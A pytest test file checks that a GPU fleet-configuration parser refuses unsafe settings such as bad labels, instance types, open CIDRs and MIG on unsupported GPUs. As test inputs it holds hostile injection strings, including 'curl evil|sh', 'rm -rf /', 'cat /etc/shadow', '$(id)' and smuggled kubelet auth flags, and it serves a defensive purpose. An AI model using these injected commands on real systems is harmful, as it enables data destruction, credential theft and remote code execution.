"""Issue 18, one test per careless or hostile fleet setting that used to be accepted: each is now refused with
the config path of the setting and what is allowed there."""

import pytest
from sahab.components.errors import ConfigError
from sahab.components.fleet_config import parse_fleet

from tests.fleets import hybrid_fleet

# hybrid_fleet(): sites[0] auh (hosts cp1, gpu1); clusters onprem, eks, aks; node_pools gpu (onprem, h100),
# eks-gpu (eks, a10g), aks-cpu (aks); buckets data (aws), azdata (azure).


def refused(mutate) -> ConfigError:
    data = hybrid_fleet()
    mutate(data)
    with pytest.raises(ConfigError) as info:
        parse_fleet(data)
    err = info.value
    assert "\n" not in str(err)
    return err


def test_a_label_value_over_63_characters_is_refused():
    err = refused(lambda d: d["node_pools"][2].update(labels={"team": "x" * 64}))
    assert err.path == "sahab:fleet.node_pools[2].labels.team"
    assert "0-63 letters" in err.message


def test_a_label_value_that_would_add_kubelet_flags_is_refused():
    err = refused(lambda d: d["node_pools"][0].update(
        labels={"team": "x --anonymous-auth=true --authorization-mode=AlwaysAllow"}))
    assert err.path == "sahab:fleet.node_pools[0].labels.team"
    assert "'x --anonymous-auth=true" in err.message and "allowed: 0-63 letters" in err.message


def test_a_label_key_with_spaces_is_refused_naming_the_key():
    err = refused(lambda d: d["node_pools"][2].update(labels={"my team": "a"}))
    assert err.path == 'sahab:fleet.node_pools[2].labels["my team"]'


@pytest.mark.parametrize("key", ["sahab.io/pool", "nvidia.com/gpu.present", "node-role.kubernetes.io/control-plane",
                                 "kubernetes.io/hostname"])
def test_labels_sahab_or_the_kubelet_own_are_refused(key):
    err = refused(lambda d: d["node_pools"][2].update(labels={key: "x"}))
    assert err.path == f'sahab:fleet.node_pools[2].labels["{key}"]'


def test_a_label_under_node_kubernetes_io_is_accepted():
    data = hybrid_fleet()
    data["node_pools"][2]["labels"] = {"node.kubernetes.io/exclude-from-external-load-balancers": "true"}
    assert parse_fleet(data).node_pools[2].node_labels["node.kubernetes.io/exclude-from-external-load-balancers"]


def test_a_taint_key_with_an_exclamation_mark_is_refused():
    err = refused(lambda d: d["node_pools"][2].update(extra_taints=[{"key": "dedicated!", "value": "x"}]))
    assert err.path == "sahab:fleet.node_pools[2].extra_taints[0].key"


def test_a_taint_value_with_a_newline_is_refused():
    err = refused(lambda d: d["node_pools"][0].update(extra_taints=[{"key": "dedicated", "value": "a\nKUBELET=x"}]))
    assert err.path == "sahab:fleet.node_pools[0].extra_taints[0].value"
    assert "'a\\nKUBELET=x'" in err.message  # the newline is shown, not printed


def test_a_second_gpu_taint_with_the_same_effect_is_refused():
    err = refused(lambda d: d["node_pools"][0].update(extra_taints=[{"key": "nvidia.com/gpu", "value": "x"}]))
    assert err.path == "sahab:fleet.node_pools[0].extra_taints[0].key"
    assert "one per key and effect" in err.message


def test_an_instance_type_with_a_shell_command_is_refused():
    err = refused(lambda d: d["node_pools"][2].update(instance_type="Standard_D8s_v5; rm -rf /"))
    assert err.path == "sahab:fleet.node_pools[2].instance_type"
    assert "not in the hardware catalog" in err.message


def test_an_aws_instance_type_with_a_shell_command_is_refused():
    err = refused(lambda d: d["node_pools"][1].update(accelerator="cpu", instance_type="m6i.xlarge; rm -rf /"))
    assert err.path == "sahab:fleet.node_pools[1].instance_type"
    assert "families m6i, m7i" in err.message


def test_an_instance_type_of_a_known_family_but_unknown_size_is_refused():
    err = refused(lambda d: d["node_pools"][1].update(instance_type="g5.bogus"))
    assert err.path == "sahab:fleet.node_pools[1].instance_type"
    assert "allowed for a10g: g5.xlarge, g5.2xlarge" in err.message


def test_two_hosts_with_one_address_are_refused():
    err = refused(lambda d: d["sites"][0]["hosts"][1].update(address="10.0.0.1"))
    assert err.path == "sahab:fleet.sites[0].hosts[1].address"
    assert "already the address of host cp1" in err.message


def test_two_sites_sharing_an_address_spelled_differently_are_refused():
    def mutate(d):
        d["sites"][0]["hosts"][0]["address"] = "fd00::1"
        d["sites"].append({"name": "dxb", "emirate": "dubai", "city": "Dubai",
                           "hosts": [{"name": "dxb1", "address": "fd00:0:0::1", "cpus": 8, "memory_gib": 32}]})
    err = refused(mutate)
    assert err.path == "sahab:fleet.sites[1].hosts[0].address"


@pytest.mark.parametrize(("field", "value"), [("max_size", True), ("min_size", False), ("max_size", 2.0),
                                              ("disk_size_gb", "200")])
def test_sizes_take_whole_numbers_only(field, value):
    err = refused(lambda d: d["node_pools"][2].update({field: value}))
    assert err.path == f"sahab:fleet.node_pools[2].{field}"
    assert "valid integer" in err.message


def test_switches_take_true_or_false_only():
    err = refused(lambda d: d["node_pools"][2].update(spot="yes"))
    assert err.path == "sahab:fleet.node_pools[2].spot"


def test_a_kubernetes_version_that_does_not_exist_is_refused():
    err = refused(lambda d: d["clusters"][1].update(kubernetes_version="1.99"))
    assert err.path == "sahab:fleet.clusters[1].kubernetes_version"
    assert "1.31" in err.message


@pytest.mark.parametrize("retention", ["0d", "0h", "15", "15d; rm", "-1w"])
def test_a_retention_of_nothing_is_refused(retention):
    err = refused(lambda d: d.update(monitoring={"retention": retention}))
    assert err.path == "sahab:fleet.monitoring.retention"


def test_an_ssh_user_with_a_shell_command_is_refused():
    err = refused(lambda d: d["sites"][0].update(ssh_user="root; curl evil|sh"))
    assert err.path == "sahab:fleet.sites[0].ssh_user"
    assert "Linux user name" in err.message


def test_twenty_thousand_hosts_at_one_site_are_refused():
    hosts = [{"name": f"h{i}", "address": f"10.{i // 65536}.{i // 256 % 256}.{i % 256}", "cpus": 8, "memory_gib": 32}
             for i in range(20000)]
    err = refused(lambda d: d["sites"][0].update(hosts=hosts))
    assert err.path == "sahab:fleet.sites[0].hosts"
    assert "at most 5000" in err.message
    assert len(str(err)) < 300  # the 20,000 hosts are not echoed back


def test_a_host_in_two_pools_is_refused():
    def mutate(d):
        d["node_pools"].append({"name": "gpu-b", "cluster": "onprem", "accelerator": "h100", "hosts": ["gpu1"]})
    err = refused(mutate)
    assert err.path == "sahab:fleet.node_pools[3].hosts[0]"
    assert "already in pool gpu" in err.message


def test_a_bucket_name_that_would_pass_63_characters_is_refused():
    # 20 + 1 + 35 + "-bucket" + Pulumi's 8-character suffix = 71 characters
    err = refused(lambda d: (d.update(name="f" * 20), d["storage"]["buckets"][0].update(name="b" * 35)))
    assert err.path == "sahab:fleet.storage.buckets[0].name"
    assert "S3 bucket name" in err.message and "allows 63" in err.message


def test_an_eks_pool_name_too_long_for_a_node_group_is_refused():
    err = refused(lambda d: d["node_pools"][1].update(name="p" * 37))
    assert err.path == "sahab:fleet.node_pools[1].name"
    assert "EKS node group name" in err.message


def test_an_enabled_workload_without_teams_is_refused_naming_the_field():
    err = refused(lambda d: d.update(workload={"enabled": True, "teams": []}))
    assert err.path == "sahab:fleet.workload.teams"


@pytest.mark.parametrize("team", ["kube-system", "kube-anything", "default", "monitoring", "gpu-operator"])
def test_a_team_named_after_a_system_namespace_is_refused_naming_the_team(team):
    err = refused(lambda d: d.update(workload={"teams": [{"name": "research"}, {"name": team}]}))
    assert err.path == "sahab:fleet.workload.teams[1].name"
    assert "namespace" in err.message


def test_two_teams_with_one_name_are_refused():
    err = refused(lambda d: d.update(workload={"teams": [{"name": "research"}, {"name": "research"}]}))
    assert err.path == "sahab:fleet.workload.teams[1].name"


def test_a_public_endpoint_without_cidrs_is_refused():
    err = refused(lambda d: d["clusters"][1].update(public_endpoint=True))
    assert err.path == "sahab:fleet.clusters[1].public_endpoint_cidrs"


@pytest.mark.parametrize("cidr", ["0.0.0.0/0", "0.0.0.0/1", "10.0.0.1/24", "::/0", "everyone"])
def test_a_public_endpoint_open_to_the_internet_is_refused(cidr):
    err = refused(lambda d: d["clusters"][2].update(public_endpoint=True, public_endpoint_cidrs=[cidr]))
    assert err.path == "sahab:fleet.clusters[2].public_endpoint_cidrs[0]"


def test_a_public_endpoint_with_narrow_cidrs_is_accepted():
    data = hybrid_fleet()
    data["clusters"][1].update(public_endpoint=True, public_endpoint_cidrs=["203.0.113.0/24"])
    assert parse_fleet(data).clusters[1].public_endpoint_cidrs == ("203.0.113.0/24",)


@pytest.mark.parametrize(("mutate", "path"), [
    (lambda d: d["sites"][0].update(city="Abu Dhabi\n[all:vars]"), "sahab:fleet.sites[0].city"),
    (lambda d: d["sites"][0].update(ssh_private_key_secret="key; cat /etc/shadow"),
     "sahab:fleet.sites[0].ssh_private_key_secret"),
    (lambda d: d["sites"][0]["hosts"][0].update(address="0.0.0.0"), "sahab:fleet.sites[0].hosts[0].address"),
    (lambda d: d["clusters"][1].update(stack_reference="org/sahab/prod $(id)"),
     "sahab:fleet.clusters[1].stack_reference"),
    (lambda d: d.update(workload={"image": "sahab/workload:0.1.0 --privileged"}), "sahab:fleet.workload.image"),
    (lambda d: d.update(residency={"allowed_regions": ["uae north"]}), "sahab:fleet.residency.allowed_regions[0]"),
    (lambda d: d["clouds"]["azure"].update(subscription_id="-" * 36), "sahab:fleet.clouds.azure.subscription_id"),
])
def test_other_strings_that_reach_a_target_are_held_to_its_grammar(mutate, path):
    assert refused(mutate).path == path


@pytest.mark.parametrize(("mutate", "path"), [
    (lambda d: d.update(workload={"teams": [{"name": "research", "gpu_quota": 10**30}]}),
     "sahab:fleet.workload.teams[0].gpu_quota"),
    (lambda d: d.update(workload={"steps": 10**12}), "sahab:fleet.workload.steps"),
    (lambda d: d["storage"]["buckets"][0].update(noncurrent_version_days=10**9),
     "sahab:fleet.storage.buckets[0].noncurrent_version_days"),
])
def test_absurd_numbers_are_refused(mutate, path):
    assert refused(mutate).path == path


# ---- MIG only where the GPU has it ---------------------------------------------------------------------------
def _gpu_pool_of(accelerator: str, where: str):
    """A mutation giving the hybrid fleet a pool of the accelerator: on-prem (its host declares those GPUs), on
    EKS (g5 / g6e) or on AKS (an NC T4 size), returning the pool's index."""
    def mutate(d, **pool):
        if where == "onprem":
            d["sites"][0]["hosts"][1]["gpus"] = {"accelerator": accelerator, "count": 1}
            d["node_pools"][0].update(accelerator=accelerator, **pool)
            return 0
        d["node_pools"].append({"name": "extra", "cluster": where, "accelerator": accelerator, "max_size": 1, **pool})
        return len(d["node_pools"]) - 1
    return mutate


@pytest.mark.parametrize(("accelerator", "where", "instance_type"), [
    ("l40s", "onprem", None), ("a10g", "onprem", None), ("t4", "onprem", None),
    ("a10g", "eks", None), ("a10g", "eks", "g5.12xlarge"), ("l40s", "eks", "g6e.xlarge"),
    ("t4", "aks", None), ("t4", "aks", "Standard_NC64as_T4_v3"),
])
@pytest.mark.parametrize("strategy", ["single", "mixed"])
def test_mig_on_a_gpu_without_mig_is_refused_naming_the_field_and_the_mig_gpus(accelerator, where, instance_type,
                                                                               strategy):
    data = hybrid_fleet()
    extra = {"instance_type": instance_type} if instance_type else {}
    index = _gpu_pool_of(accelerator, where)(data, mig_strategy=strategy, **extra)
    with pytest.raises(ConfigError) as info:
        parse_fleet(data)
    assert info.value.path == f"sahab:fleet.node_pools[{index}].mig_strategy"
    assert info.value.message == f"{accelerator} GPUs have no MIG; allowed: none (MIG is on a100, h100, h200 only)"
    data = hybrid_fleet()
    _gpu_pool_of(accelerator, where)(data, mig_strategy="none", **extra)
    assert parse_fleet(data).node_pools[index].mig_strategy == "none"


@pytest.mark.parametrize(("accelerator", "where"), [("h100", "onprem"), ("a100", "onprem"), ("h200", "onprem"),
                                                    ("h200", "eks"), ("a100", "aks"),
                                                    ("h100", "aks")])
def test_mig_on_a100_h100_and_h200_is_accepted(accelerator, where):
    data = hybrid_fleet()
    index = _gpu_pool_of(accelerator, where)(data, mig_strategy="single")
    assert parse_fleet(data).node_pools[index].node_labels["nvidia.com/device-plugin.config"] == "mig-single"
